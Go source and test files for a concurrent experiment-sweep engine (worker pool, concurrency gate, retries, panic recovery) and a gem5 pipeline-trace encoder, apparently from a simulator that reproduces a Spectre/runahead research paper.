	return fmt.Sprintf("sweep: job panicked: %v\n%s", e.Value, e.Stack)
}

// JobError wraps a job failure with the index of the input that caused it.
type JobError struct {
	Index int
	Err   error
}

func (e *JobError) Error() string { return fmt.Sprintf("job %d: %v", e.Index, e.Err) }

func (e *JobError) Unwrap() error { return e.Err }

// Run maps fn over items on a pool of opt.Workers goroutines and returns
// the results in input order: result[i] is fn's output for items[i],
// regardless of scheduling.  Every failing job contributes a *JobError to
// the joined error (ascending by index); the corresponding result slot
// holds the zero value.  If ctx is cancelled mid-sweep, undispatched jobs
// never run and ctx.Err() is included in the returned error.
func Run[I, R any](ctx context.Context, items []I, fn func(context.Context, I) (R, error), opt Options) ([]R, error) {
	results := make([]R, len(items))
	if len(items) == 0 {
		return results, ctx.Err()
	}
	workers := opt.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(items) {
		workers = len(items)
	}

	gate := opt.Gate
	if gate == nil {
		gate = GateFrom(ctx)
	}

	jobs := make(chan int)
	stop := make(chan struct{}) // closed on the first error under FailFast
	var (
		mu       sync.Mutex
		done     int
		jobErrs  []*JobError
		gateErr  error // cancellation observed while waiting on the gate
		stopOnce sync.Once
		wg       sync.WaitGroup
		total    = len(items)
		progress = opt.OnProgress
	)

	wg.Add(workers)
	for w := 0; w < workers; w++ {
		go func() {
			defer wg.Done()
			for i := range jobs {
				if gate != nil {
					// A cancelled wait leaves the slot zero with no JobError,
					// like a job the dispatcher never handed out — but the
					// cancellation must still reach the caller: the dispatch
					// loop may have finished before ctx was cancelled, and a
					// silently skipped job must not look like a completed one.
					if err := gate.Acquire(ctx); err != nil {
						mu.Lock()
						if gateErr == nil {
							gateErr = err
						}
						mu.Unlock()
						continue
					}
				}
				r, err := runJob(ctx, items[i], fn)
				for attempt := 1; err != nil && opt.Retry != nil && ctx.Err() == nil && opt.Retry(attempt, err); attempt++ {
					r, err = runJob(ctx, items[i], fn)
				}
				if gate != nil {
					gate.Release()
				}
				mu.Lock()
				if err != nil {
					// The slot keeps its zero value: an errored job never
					// publishes a partial result (documented contract).
					jobErrs = append(jobErrs, &JobError{Index: i, Err: err})
					if opt.FailFast {
						stopOnce.Do(func() { close(stop) })
					}
				} else {
					results[i] = r
				}
				done++
				if progress != nil {
					progress(done, total)
				}
				mu.Unlock()
			}
		}()
	}

	var ctxErr error
dispatch:
	for i := range items {
		// Check cancellation before racing it against the send: a ready
		// Done channel must never lose the select to an idle worker, or a
		// cancelled sweep could run to completion and report success.
		select {
		case <-ctx.Done():
			ctxErr = ctx.Err()
			break dispatch
		case <-stop:
			break dispatch
		default:
		}
		select {
		case jobs <- i:
		case <-ctx.Done():
			ctxErr = ctx.Err()
			break dispatch
		case <-stop:
			break dispatch
		}
	}
	close(jobs)
	wg.Wait()

	if ctxErr == nil {
		ctxErr = gateErr
	}
	sort.Slice(jobErrs, func(a, b int) bool { return jobErrs[a].Index < jobErrs[b].Index })
	errs := make([]error, 0, len(jobErrs)+1)
	if ctxErr != nil {
		errs = append(errs, ctxErr)
	}
	for _, je := range jobErrs {
		errs = append(errs, je)
	}
	return results, errors.Join(errs...)
}

// runJob executes one job, converting a panic into a *PanicError carrying
// the stack.  Workers run on their own goroutines, where an unrecovered
// panic would kill the whole process — unacceptable for a long-running
// server whose job inputs arrive over the network.  The chaos harness's
// worker-panic fault point fires here, before fn touches any simulator
// state, so an injected panic is always cleanly retryable.
func runJob[I, R any](ctx context.Context, item I, fn func(context.Context, I) (R, error)) (r R, err error) {
	defer func() {
		if p := recover(); p != nil {
			err = &PanicError{Value: p, Stack: debug.Stack()}
		}
	}()
	if faultinject.Fire(faultinject.WorkerPanic) {
		panic("injected worker panic")
	}
	return fn(ctx, item)
}

// First is a convenience wrapper over [Run] for drivers that want the
// seed repository's fail-fast semantics: the first job error stops
// dispatching (in-flight jobs finish) and is returned alone — the lowest
// failing input index, or the cancellation error — not the join.
func First[I, R any](ctx context.Context, items []I, fn func(context.Context, I) (R, error), opt Options) ([]R, error) {
	opt.FailFast = true
	results, err := Run(ctx, items, fn, opt)
	if err == nil {
		return results, nil
	}
	var multi interface{ Unwrap() []error }
	if errors.As(err, &multi) {
		if wrapped := multi.Unwrap(); len(wrapped) > 0 {
			return results, wrapped[0]
		}
	}
	return results, err
}
