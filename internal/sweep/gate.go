package sweep

import (
	"context"
	"runtime"
	"sync/atomic"
	"time"
)

// Gate is a concurrency budget shared across independent [Run] calls: each
// worker acquires one token per job, so N concurrent sweeps together never
// execute more than the gate's capacity of simulations at once, instead of
// oversubscribing the machine with N×GOMAXPROCS goroutines.  The server
// subsystem installs one process-wide gate; a nil *Gate imposes no limit.
type Gate struct {
	tokens chan struct{}
	queued atomic.Int64
	waitFn atomic.Pointer[func(time.Duration)]
}

// NewGate builds a gate admitting n concurrent jobs (n <= 0 = GOMAXPROCS).
func NewGate(n int) *Gate {
	if n <= 0 {
		n = runtime.GOMAXPROCS(0)
	}
	return &Gate{tokens: make(chan struct{}, n)}
}

// Cap reports the gate's capacity.
func (g *Gate) Cap() int { return cap(g.tokens) }

// InFlight reports how many tokens are currently held.
func (g *Gate) InFlight() int { return len(g.tokens) }

// Queued reports how many Acquire calls are currently blocked waiting.
func (g *Gate) Queued() int { return int(g.queued.Load()) }

// OnWait installs fn to observe how long each Acquire that could not get a
// token immediately ended up waiting (nil removes it).  The uncontended
// fast path never calls fn and never reads the clock, so an instrumented
// idle gate costs one atomic load per Acquire.
func (g *Gate) OnWait(fn func(waited time.Duration)) {
	if fn == nil {
		g.waitFn.Store(nil)
		return
	}
	g.waitFn.Store(&fn)
}

// Acquire blocks until a token is available or ctx is done.
func (g *Gate) Acquire(ctx context.Context) error {
	select {
	case g.tokens <- struct{}{}:
		return nil // fast path: no queueing, no clock read
	default:
	}
	g.queued.Add(1)
	var start time.Time
	fn := g.waitFn.Load()
	if fn != nil {
		start = time.Now()
	}
	defer func() {
		g.queued.Add(-1)
		if fn != nil {
			(*fn)(time.Since(start))
		}
	}()
	select {
	case g.tokens <- struct{}{}:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Release returns a token taken by Acquire.
func (g *Gate) Release() { <-g.tokens }

type gateKey struct{}

// WithGate returns a context carrying the gate.  [Run] honors a context
// gate when Options.Gate is unset, which lets a server-wide budget flow
// through driver functions that only take a context.
func WithGate(ctx context.Context, g *Gate) context.Context {
	return context.WithValue(ctx, gateKey{}, g)
}

// GateFrom extracts the gate installed by [WithGate] (nil if none).
func GateFrom(ctx context.Context) *Gate {
	g, _ := ctx.Value(gateKey{}).(*Gate)
	return g
}

// Errors unwraps the joined error returned by [Run] into its parts, keeping
// only per-job failures (nil or a bare cancellation error yields none).
func Errors(err error) []*JobError {
	if err == nil {
		return nil
	}
	var jobErrs []*JobError
	if je, ok := err.(*JobError); ok {
		return []*JobError{je}
	}
	if m, ok := err.(interface{ Unwrap() []error }); ok {
		for _, e := range m.Unwrap() {
			if je, ok := e.(*JobError); ok {
				jobErrs = append(jobErrs, je)
			}
		}
	}
	return jobErrs
}
