package sweep

import (
	"context"
	"runtime"
)

// Gate is a concurrency budget shared across independent [Run] calls: each
// worker acquires one token per job, so N concurrent sweeps together never
// execute more than the gate's capacity of simulations at once, instead of
// oversubscribing the machine with N×GOMAXPROCS goroutines.  The server
// subsystem installs one process-wide gate; a nil *Gate imposes no limit.
type Gate struct {
	tokens chan struct{}
}

// NewGate builds a gate admitting n concurrent jobs (n <= 0 = GOMAXPROCS).
func NewGate(n int) *Gate {
	if n <= 0 {
		n = runtime.GOMAXPROCS(0)
	}
	return &Gate{tokens: make(chan struct{}, n)}
}

// Cap reports the gate's capacity.
func (g *Gate) Cap() int { return cap(g.tokens) }

// Acquire blocks until a token is available or ctx is done.
func (g *Gate) Acquire(ctx context.Context) error {
	select {
	case g.tokens <- struct{}{}:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Release returns a token taken by Acquire.
func (g *Gate) Release() { <-g.tokens }

type gateKey struct{}

// WithGate returns a context carrying the gate.  [Run] honors a context
// gate when Options.Gate is unset, which lets a server-wide budget flow
// through driver functions that only take a context.
func WithGate(ctx context.Context, g *Gate) context.Context {
	return context.WithValue(ctx, gateKey{}, g)
}

// GateFrom extracts the gate installed by [WithGate] (nil if none).
func GateFrom(ctx context.Context) *Gate {
	g, _ := ctx.Value(gateKey{}).(*Gate)
	return g
}

// Errors unwraps the joined error returned by [Run] into its parts, keeping
// only per-job failures (nil or a bare cancellation error yields none).
func Errors(err error) []*JobError {
	if err == nil {
		return nil
	}
	var jobErrs []*JobError
	if je, ok := err.(*JobError); ok {
		return []*JobError{je}
	}
	if m, ok := err.(interface{ Unwrap() []error }); ok {
		for _, e := range m.Unwrap() {
			if je, ok := e.(*JobError); ok {
				jobErrs = append(jobErrs, je)
			}
		}
	}
	return jobErrs
}
