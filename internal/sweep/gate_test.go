package sweep

import (
	"context"
	"errors"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// TestGateBoundsConcurrency runs two sweeps that share one 2-token gate
// with generously-sized worker pools and asserts the number of jobs
// executing at once never exceeds the budget.
func TestGateBoundsConcurrency(t *testing.T) {
	gate := NewGate(2)
	var cur, peak atomic.Int64
	job := func(context.Context, int) (int, error) {
		n := cur.Add(1)
		for {
			p := peak.Load()
			if n <= p || peak.CompareAndSwap(p, n) {
				break
			}
		}
		time.Sleep(time.Millisecond)
		cur.Add(-1)
		return 0, nil
	}
	items := make([]int, 40)
	var wg sync.WaitGroup
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func(useCtx bool) {
			defer wg.Done()
			ctx := context.Background()
			opt := Options{Workers: 8}
			if useCtx {
				ctx = WithGate(ctx, gate) // one sweep takes the context route
			} else {
				opt.Gate = gate // the other the explicit option
			}
			if _, err := Run(ctx, items, job, opt); err != nil {
				t.Errorf("Run: %v", err)
			}
		}(i == 0)
	}
	wg.Wait()
	if p := peak.Load(); p > 2 {
		t.Fatalf("peak concurrency %d exceeded gate budget 2", p)
	}
}

func TestGateAcquireCancelled(t *testing.T) {
	gate := NewGate(1)
	if err := gate.Acquire(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer gate.Release()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := gate.Acquire(ctx); !errors.Is(err, context.Canceled) {
		t.Fatalf("Acquire on cancelled ctx = %v", err)
	}
	// A cancelled gated sweep completes without deadlocking; jobs that
	// never acquired the gate are reported as cancelled, not as failures.
	items := make([]int, 4)
	_, err := Run(ctx, items, func(context.Context, int) (int, error) { return 1, nil },
		Options{Workers: 2, Gate: gate})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("gated cancelled Run = %v", err)
	}
	if jobErrs := Errors(err); len(jobErrs) != 0 {
		t.Fatalf("cancelled gated jobs produced job errors: %v", jobErrs)
	}
}

// TestGateCancelAfterDispatch: cancellation that lands after every job was
// dispatched — while workers are still blocked on the gate — must surface
// as an error, not as a silent all-zero success.
func TestGateCancelAfterDispatch(t *testing.T) {
	gate := NewGate(1)
	if err := gate.Acquire(context.Background()); err != nil { // hold the only token
		t.Fatal(err)
	}
	defer gate.Release()

	ctx, cancel := context.WithCancel(context.Background())
	items := make([]int, 2)
	errc := make(chan error, 1)
	go func() {
		_, err := Run(ctx, items, func(context.Context, int) (int, error) { return 1, nil },
			Options{Workers: len(items), Gate: gate})
		errc <- err
	}()
	// Give the dispatcher time to hand out both jobs and exit its loop.
	time.Sleep(50 * time.Millisecond)
	cancel()
	if err := <-errc; !errors.Is(err, context.Canceled) {
		t.Fatalf("Run after post-dispatch cancellation = %v, want context.Canceled", err)
	}
}

func TestErrorsHelper(t *testing.T) {
	if Errors(nil) != nil {
		t.Fatal("Errors(nil) != nil")
	}
	boom := errors.New("boom")
	items := []int{0, 1, 2, 3}
	_, err := Run(context.Background(), items, func(_ context.Context, i int) (int, error) {
		if i%2 == 1 {
			return 0, boom
		}
		return i, nil
	}, Options{Workers: 2})
	jobErrs := Errors(err)
	if len(jobErrs) != 2 || jobErrs[0].Index != 1 || jobErrs[1].Index != 3 {
		t.Fatalf("Errors = %v", jobErrs)
	}
	// A bare (unjoined) JobError also unwraps.
	single := &JobError{Index: 7, Err: boom}
	if got := Errors(single); len(got) != 1 || got[0].Index != 7 {
		t.Fatalf("Errors(single) = %v", got)
	}
}

// TestGateOccupancy pins the instrumentation the /metrics endpoint exports:
// InFlight tracks held tokens, Queued tracks blocked acquirers, and the
// wait observer fires only for acquires that actually queued.
func TestGateOccupancy(t *testing.T) {
	g := NewGate(1)
	var waits atomic.Int64
	g.OnWait(func(d time.Duration) {
		if d < 0 {
			t.Errorf("negative wait %v", d)
		}
		waits.Add(1)
	})
	ctx := context.Background()

	if g.InFlight() != 0 || g.Queued() != 0 {
		t.Fatalf("idle gate: inflight=%d queued=%d", g.InFlight(), g.Queued())
	}
	if err := g.Acquire(ctx); err != nil {
		t.Fatal(err)
	}
	if g.InFlight() != 1 {
		t.Fatalf("inflight = %d after acquire", g.InFlight())
	}
	if waits.Load() != 0 {
		t.Fatal("uncontended acquire invoked the wait observer")
	}

	// A second acquirer must queue until the token is released.
	entered := make(chan struct{})
	done := make(chan error, 1)
	go func() {
		close(entered)
		done <- g.Acquire(ctx)
	}()
	<-entered
	for i := 0; g.Queued() != 1; i++ {
		if i > 1000 {
			t.Fatal("second acquirer never counted as queued")
		}
		time.Sleep(time.Millisecond)
	}
	g.Release()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if g.Queued() != 0 || g.InFlight() != 1 {
		t.Fatalf("after handoff: inflight=%d queued=%d", g.InFlight(), g.Queued())
	}
	if waits.Load() != 1 {
		t.Fatalf("wait observer fired %d times, want 1", waits.Load())
	}
	g.Release()

	// A cancelled queued acquire still reports its wait and leaves the
	// queue count clean.
	if err := g.Acquire(ctx); err != nil {
		t.Fatal(err)
	}
	cctx, cancel := context.WithCancel(ctx)
	go func() {
		for g.Queued() == 0 {
			time.Sleep(time.Millisecond)
		}
		cancel()
	}()
	if err := g.Acquire(cctx); !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled acquire: %v", err)
	}
	if g.Queued() != 0 {
		t.Fatalf("queued = %d after cancellation", g.Queued())
	}
	if waits.Load() != 2 {
		t.Fatalf("wait observer fired %d times, want 2", waits.Load())
	}
	g.Release()
}
