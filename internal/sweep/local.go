package sweep

import "sync"

// Local hands out per-worker scratch state for sweep jobs — typically a
// reusable simulator (see core.Machine.Reset and the difftest machine
// cache).  Jobs call Get at entry and Put on exit; with N workers at most N
// values are ever live, so an expensive-to-build value (a machine with its
// caches, predictor tables and uop pool) is constructed roughly once per
// worker instead of once per job.
//
// Local is a thin typed wrapper over sync.Pool, which also gives the right
// behaviour for bursty servers: values idle across GC cycles are released
// rather than pinned forever.  Results must not depend on whether Get
// returns a fresh or a reused value — reusable state has to reset itself to
// a canonical baseline, which is exactly the contract machine Reset methods
// pin with byte-identical-statistics tests.
type Local[T any] struct {
	pool sync.Pool
	newf func() T
}

// NewLocal builds a Local whose Get falls back to newf when no reusable
// value is available.
func NewLocal[T any](newf func() T) *Local[T] {
	return &Local[T]{newf: newf}
}

// Get returns a reused value, or a freshly built one.
func (l *Local[T]) Get() T {
	if v := l.pool.Get(); v != nil {
		return v.(T)
	}
	return l.newf()
}

// Put returns a value for reuse by later jobs.
func (l *Local[T]) Put(v T) { l.pool.Put(v) }
