// Package sweep is the experiment-sweep engine behind every multi-run
// driver in the SPECRUN reproduction.
//
// The paper's evaluation is a pile of independent simulations: each point
// of Fig. 7 is one (kernel, runahead-kind) pair on a fresh machine, each
// row of the §4.3/§4.4 applicability matrix is one (Spectre-variant or
// runahead-variant) PoC run, each Fig. 10 bar is one window scenario, and
// the §6 defense comparison is three attack runs against three machine
// configurations.  The seed repository executed them strictly serially;
// this package shards them across a worker pool while keeping every
// observable result byte-identical to the serial order.
//
// # Engine
//
// [Run] is the core primitive: it maps a job function over a slice of
// inputs on opt.Workers goroutines (defaulting to GOMAXPROCS) and returns
// the outputs in input order — result[i] always corresponds to items[i],
// no matter which worker ran it or when it finished.  Because every
// simulation in this repository is deterministic (fresh *cpu.CPU per job,
// seeded rand in the program generators, no shared mutable state), input
// order determinism makes the whole sweep deterministic: workers=1 and
// workers=N produce identical bytes.
//
// Failure semantics: every job runs to completion or error; all per-job
// errors are captured and returned joined (each wrapped in a [JobError]
// carrying its input index), so one bad grid point does not hide the
// others.  Cancelling the context stops dispatching new jobs and Run
// returns ctx.Err(); jobs never started are never run.  Opting into
// Options.FailFast (what [First] does) instead stops dispatching after
// the first job error, restoring the serial drivers' early exit.
//
// Progress: opt.OnProgress is invoked serially (never concurrently) after
// each job finishes, with the number of completed jobs and the total —
// enough to drive a CLI progress line or a future service-side ETA.
//
// # Grids
//
// [Axis] and [Expand] turn named parameter lists (ROB size, runahead
// kind, Spectre variant, workload kernel, secret byte, ...) into the flat
// job slice Run consumes.  Expansion is row-major with the last axis
// fastest, so grid order — and therefore output order — is stable across
// runs and worker counts.  The `specrun sweep` subcommand is a thin shell
// around Expand + Run.
package sweep
