package sweep

import (
	"context"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"specrun/internal/faultinject"
)

func TestRunDeterministicOrdering(t *testing.T) {
	items := make([]int, 100)
	for i := range items {
		items[i] = i
	}
	square := func(_ context.Context, v int) (int, error) { return v * v, nil }

	serial, err := Run(context.Background(), items, square, Options{Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	for _, workers := range []int{2, 4, 16, 200} {
		got, err := Run(context.Background(), items, square, Options{Workers: workers})
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, serial) {
			t.Errorf("workers=%d: results differ from serial run", workers)
		}
	}
	for i, v := range serial {
		if v != i*i {
			t.Fatalf("result[%d] = %d, want %d", i, v, i*i)
		}
	}
}

func TestRunDefaultWorkers(t *testing.T) {
	got, err := Run(context.Background(), []int{1, 2, 3},
		func(_ context.Context, v int) (int, error) { return v + 1, nil }, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if want := []int{2, 3, 4}; !reflect.DeepEqual(got, want) {
		t.Fatalf("got %v, want %v", got, want)
	}
}

func TestRunEmpty(t *testing.T) {
	got, err := Run(context.Background(), nil,
		func(_ context.Context, v int) (int, error) { return v, nil }, Options{})
	if err != nil || len(got) != 0 {
		t.Fatalf("empty sweep: got %v, %v", got, err)
	}
}

func TestRunErrorCapture(t *testing.T) {
	items := []int{0, 1, 2, 3, 4, 5}
	fail := errors.New("boom")
	results, err := Run(context.Background(), items, func(_ context.Context, v int) (int, error) {
		if v%2 == 1 {
			return 0, fmt.Errorf("odd %d: %w", v, fail)
		}
		return v * 10, nil
	}, Options{Workers: 3})
	if err == nil {
		t.Fatal("want joined error, got nil")
	}
	if !errors.Is(err, fail) {
		t.Errorf("joined error does not wrap the job error: %v", err)
	}
	var je *JobError
	if !errors.As(err, &je) {
		t.Fatalf("joined error carries no *JobError: %v", err)
	}
	if je.Index != 1 {
		t.Errorf("first JobError index = %d, want 1 (errors must sort by input index)", je.Index)
	}
	// Successful jobs still report results; failed slots are zero.
	want := []int{0, 0, 20, 0, 40, 0}
	if !reflect.DeepEqual(results, want) {
		t.Errorf("results = %v, want %v", results, want)
	}
	if n := strings.Count(err.Error(), "odd "); n != 3 {
		t.Errorf("joined error mentions %d failures, want 3: %v", n, err)
	}
}

func TestFirstFailFast(t *testing.T) {
	items := []int{0, 1, 2}
	_, err := First(context.Background(), items, func(_ context.Context, v int) (int, error) {
		if v > 0 {
			return 0, fmt.Errorf("job-%d failed", v)
		}
		return v, nil
	}, Options{Workers: 2})
	if err == nil {
		t.Fatal("want error")
	}
	if got := err.Error(); got != "job 1: job-1 failed" {
		t.Errorf("First must surface the lowest-index failure alone, got %q", got)
	}
}

// TestRunPreCancelled: a context cancelled before Run is called must never
// dispatch a job, even when idle workers make the send side of the select
// ready — Done has to win deterministically, not probabilistically.
func TestRunPreCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for trial := 0; trial < 50; trial++ {
		var ran atomic.Int32
		_, err := Run(ctx, []int{1, 2, 3}, func(_ context.Context, v int) (int, error) {
			ran.Add(1)
			return v, nil
		}, Options{Workers: 3})
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("trial %d: err = %v, want context.Canceled", trial, err)
		}
		if n := ran.Load(); n != 0 {
			t.Fatalf("trial %d: %d jobs ran on a pre-cancelled context", trial, n)
		}
	}
}

// TestFirstStopsDispatching: fail-fast must not burn the rest of the grid
// after the first failure (the serial drivers' early-exit semantics).
func TestFirstStopsDispatching(t *testing.T) {
	items := make([]int, 1000)
	var ran atomic.Int32
	_, err := First(context.Background(), items, func(_ context.Context, _ int) (int, error) {
		ran.Add(1)
		return 0, errors.New("always fails")
	}, Options{Workers: 2})
	if err == nil {
		t.Fatal("want error")
	}
	// Workers drain at most the jobs in flight when the stop fires; with 2
	// workers that is a handful, never anything close to the full 1000.
	if n := ran.Load(); n > 100 {
		t.Errorf("fail-fast ran %d of 1000 jobs, want an early stop", n)
	}
}

func TestRunCancellationMidSweep(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	items := make([]int, 64)
	var started atomic.Int32
	release := make(chan struct{})
	var once sync.Once
	_, err := Run(ctx, items, func(_ context.Context, v int) (int, error) {
		started.Add(1)
		once.Do(func() {
			cancel()
			close(release)
		})
		<-release
		return v, nil
	}, Options{Workers: 2})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	// With 2 workers, at most the in-flight jobs (plus one blocked send that
	// won the race against ctx.Done) run; the rest must never start.
	if n := started.Load(); n > 4 {
		t.Errorf("%d jobs started after cancellation, want <= 4", n)
	}
}

func TestRunProgressSerialAndComplete(t *testing.T) {
	items := make([]int, 37)
	var calls []int
	_, err := Run(context.Background(), items, func(_ context.Context, v int) (int, error) {
		time.Sleep(time.Microsecond)
		return v, nil
	}, Options{Workers: 8, OnProgress: func(done, total int) {
		if total != len(items) {
			t.Errorf("total = %d, want %d", total, len(items))
		}
		calls = append(calls, done) // data race here would fail -race
	}})
	if err != nil {
		t.Fatal(err)
	}
	if len(calls) != len(items) {
		t.Fatalf("%d progress calls, want %d", len(calls), len(items))
	}
	for i, d := range calls {
		if d != i+1 {
			t.Fatalf("progress call %d reported done=%d, want %d (must be monotonic)", i, d, i+1)
		}
	}
}

func TestExpandRowMajor(t *testing.T) {
	axes := []Axis{
		{Name: "rob", Values: []string{"64", "256"}},
		{Name: "kind", Values: []string{"none", "original", "vector"}},
	}
	points := Expand(axes)
	if len(points) != 6 {
		t.Fatalf("Expand produced %d points, want 6", len(points))
	}
	want := []string{
		"rob=64 kind=none", "rob=64 kind=original", "rob=64 kind=vector",
		"rob=256 kind=none", "rob=256 kind=original", "rob=256 kind=vector",
	}
	for i, p := range points {
		if got := FormatPoint(axes, p); got != want[i] {
			t.Errorf("point %d = %q, want %q", i, got, want[i])
		}
	}
}

func TestExpandDegenerate(t *testing.T) {
	if pts := Expand(nil); len(pts) != 1 || len(pts[0]) != 0 {
		t.Errorf("Expand(nil) = %v, want one empty point", pts)
	}
	empty := []Axis{{Name: "x"}}
	if pts := Expand(empty); len(pts) != 0 {
		t.Errorf("Expand with a valueless axis = %v, want no points", pts)
	}
}

// TestRunJobPanicIsError pins the server-safety contract: a panicking job
// becomes a JobError on that input instead of killing the worker goroutine
// (and with it the whole process).
func TestRunJobPanicIsError(t *testing.T) {
	got, err := Run(context.Background(), []int{0, 1, 2}, func(_ context.Context, v int) (int, error) {
		if v == 1 {
			panic("boom")
		}
		return v * 10, nil
	}, Options{Workers: 2})
	jobErrs := Errors(err)
	if len(jobErrs) != 1 || jobErrs[0].Index != 1 {
		t.Fatalf("Errors = %v, want one error at index 1", jobErrs)
	}
	if got[0] != 0 || got[2] != 20 {
		t.Fatalf("surviving results = %v", got)
	}
}

// TestRunErroredSlotStaysZero pins the documented contract: a failing job
// never publishes a partial result, even if fn returned one with the error.
func TestRunErroredSlotStaysZero(t *testing.T) {
	got, err := Run(context.Background(), []int{1}, func(_ context.Context, v int) (int, error) {
		return 99, errors.New("partial")
	}, Options{Workers: 1})
	if err == nil {
		t.Fatal("want error")
	}
	if got[0] != 0 {
		t.Errorf("errored slot = %d, want zero value", got[0])
	}
}

// TestPanicErrorCarriesStack: the recovered panic is a *PanicError whose
// stack names the panic site, so a campaign report is actionable without
// reproducing the crash.
func TestPanicErrorCarriesStack(t *testing.T) {
	_, err := Run(context.Background(), []int{0}, func(_ context.Context, v int) (int, error) {
		panic("boom with stack")
	}, Options{Workers: 1})
	var pe *PanicError
	if !errors.As(err, &pe) {
		t.Fatalf("error %T is not a *PanicError: %v", err, err)
	}
	if pe.Value != "boom with stack" {
		t.Fatalf("recovered value = %v", pe.Value)
	}
	if !strings.Contains(string(pe.Stack), "sweep_test.go") {
		t.Fatalf("stack does not name the panic site:\n%s", pe.Stack)
	}
	if !strings.Contains(pe.Error(), "boom with stack") {
		t.Fatalf("Error() = %q", pe.Error())
	}
}

// TestRetryHook: the retry policy re-runs failing jobs on the same worker
// until it declines; successes never consult it, and only the final
// attempt's error becomes the JobError.
func TestRetryHook(t *testing.T) {
	var mu sync.Mutex
	attempts := map[int]int{}
	var retries []int
	got, err := Run(context.Background(), []int{0, 1, 2}, func(_ context.Context, v int) (int, error) {
		mu.Lock()
		attempts[v]++
		n := attempts[v]
		mu.Unlock()
		switch {
		case v == 1 && n < 3:
			return 0, fmt.Errorf("transient %d", n)
		case v == 2:
			return 0, errors.New("permanent")
		}
		return v * 10, nil
	}, Options{Workers: 2, Retry: func(attempt int, err error) bool {
		mu.Lock()
		retries = append(retries, attempt)
		mu.Unlock()
		return attempt < 3
	}})
	if got[0] != 0 || got[1] != 10 {
		t.Fatalf("results = %v", got)
	}
	jobErrs := Errors(err)
	if len(jobErrs) != 1 || jobErrs[0].Index != 2 || !strings.Contains(jobErrs[0].Err.Error(), "permanent") {
		t.Fatalf("Errors = %v, want the exhausted permanent failure at index 2", jobErrs)
	}
	mu.Lock()
	defer mu.Unlock()
	if attempts[0] != 1 || attempts[1] != 3 || attempts[2] != 3 {
		t.Fatalf("attempts = %v, want job 0 once, jobs 1 and 2 three times", attempts)
	}
}

// TestRetryHookStopsOnCancel: a cancelled context ends the retry loop even
// when the policy would keep going.
func TestRetryHookStopsOnCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	calls := 0
	_, err := Run(ctx, []int{0}, func(_ context.Context, v int) (int, error) {
		calls++
		cancel()
		return 0, errors.New("always")
	}, Options{Workers: 1, Retry: func(int, error) bool { return true }})
	if calls != 1 {
		t.Fatalf("job ran %d times after cancellation, want 1", calls)
	}
	if err == nil {
		t.Fatal("want error")
	}
}

// TestInjectedWorkerPanicsRetried: the chaos contract — with the
// worker-panic fault point firing on the first K jobs and a panic-only
// retry policy, the sweep's results are byte-identical to a fault-free run.
func TestInjectedWorkerPanicsRetried(t *testing.T) {
	items := make([]int, 32)
	for i := range items {
		items[i] = i
	}
	fn := func(_ context.Context, v int) (int, error) { return v * 7, nil }
	clean, err := Run(context.Background(), items, fn, Options{Workers: 4})
	if err != nil {
		t.Fatal(err)
	}

	faultinject.Enable(faultinject.Config{Points: map[faultinject.Point]faultinject.PointConfig{
		faultinject.WorkerPanic: {First: 5},
	}})
	defer faultinject.Disable()
	// The retry cap must exceed First: under concurrency every one of the
	// first K point hits can land on a single job's consecutive retries.
	chaos, err := Run(context.Background(), items, fn, Options{Workers: 4, Retry: func(attempt int, err error) bool {
		var pe *PanicError
		return errors.As(err, &pe) && attempt < 8
	}})
	if err != nil {
		t.Fatalf("chaos run failed despite retries: %v", err)
	}
	if !reflect.DeepEqual(clean, chaos) {
		t.Fatalf("chaos results differ from clean run:\n%v\n%v", clean, chaos)
	}
}
