package trace

import (
	"bufio"
	"fmt"
	"io"
	"slices"

	"specrun/internal/cpu"
)

// O3 renders the gem5 O3PipeView text format (the input to gem5's
// util/o3-pipeview.py and to Konata's gem5 importer).  O3PipeView is a
// per-instruction format — all of an instruction's stage timestamps print
// together — so records buffer per seq and flush when the uop reaches a
// terminal event (commit, pseudo-retire or squash), which matches gem5's
// own retirement-ordered output.  Close drains uops still in flight at the
// end of the run, oldest first.
//
// Ticks are cycle*1000 (gem5's convention of 1000 ticks per cycle); an
// unreached stage prints tick 0, and squashed instructions print retire
// tick 0.  This model decodes, renames and dispatches in one cycle, so
// those three lines share the dispatch tick.
type O3 struct {
	w     *bufio.Writer
	err   error
	recs  map[uint64]*o3rec
	order []uint64 // seqs in fetch order, for Close's leftover drain
}

type o3rec struct {
	pc       uint64
	disasm   string
	fetch    uint64 // cycle+1 internally so 0 means "not reached"
	dispatch uint64
	issue    uint64
	complete uint64
}

// NewO3 returns an O3PipeView encoder writing to w.
func NewO3(w io.Writer) *O3 {
	return &O3{w: bufio.NewWriter(w), recs: make(map[uint64]*o3rec)}
}

func (o *O3) printf(format string, args ...any) {
	if o.err != nil {
		return
	}
	_, o.err = fmt.Fprintf(o.w, format, args...)
}

// tick converts the cycle+1 encoding to an O3PipeView tick (0 = unreached).
func tick(c uint64) uint64 {
	if c == 0 {
		return 0
	}
	return (c - 1) * 1000
}

// Event encodes one lifecycle event.  Install as the cpu.SetTracer callback.
func (o *O3) Event(ev cpu.TraceEvent) {
	r := o.recs[ev.Seq]
	if r == nil {
		if ev.Stage != cpu.TraceFetch {
			return // uop fetched before tracing started; no record to build on
		}
		r = &o3rec{pc: ev.PC, disasm: ev.Inst.String(), fetch: ev.Cycle + 1}
		o.recs[ev.Seq] = r
		o.order = append(o.order, ev.Seq)
		return
	}
